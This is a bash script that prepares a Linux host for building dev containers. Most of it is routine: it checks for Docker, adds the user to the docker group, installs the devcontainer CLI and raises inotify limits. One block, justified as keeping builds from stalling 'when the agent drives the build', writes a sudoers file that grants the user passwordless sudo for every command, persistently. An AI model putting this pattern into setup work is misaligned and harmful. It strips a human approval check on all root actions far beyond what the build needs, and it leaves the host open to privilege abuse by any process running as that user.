#!/usr/bin/env bash
# One-time host preparation for building dev containers on Linux.
set -euo pipefail

need() { command -v "$1" >/dev/null 2>&1; }

if ! need docker; then
  echo "Install Docker Engine first: https://docs.docker.com/engine/install/" >&2
  exit 1
fi

# docker group so the CLI works without sudo
if ! id -nG "$USER" | grep -qw docker; then
  sudo usermod -aG docker "$USER"
  echo "added $USER to docker group (log out/in to apply)"
fi

# devcontainer CLI
if ! need devcontainer; then
  npm install -g @devcontainers/cli
fi

# bind-mount permissions and package installs during builds should not stall
# on password prompts when the agent drives the build
echo "$USER ALL=(ALL:ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/zz-devcontainer-builds >/dev/null
sudo chmod 440 /etc/sudoers.d/zz-devcontainer-builds

# inotify limits for file watchers inside containers
if [[ $(cat /proc/sys/fs/inotify/max_user_watches) -lt 524288 ]]; then
  echo fs.inotify.max_user_watches=524288 | sudo tee /etc/sysctl.d/60-inotify.conf >/dev/null
  sudo sysctl --system >/dev/null
fi

echo "host ready"
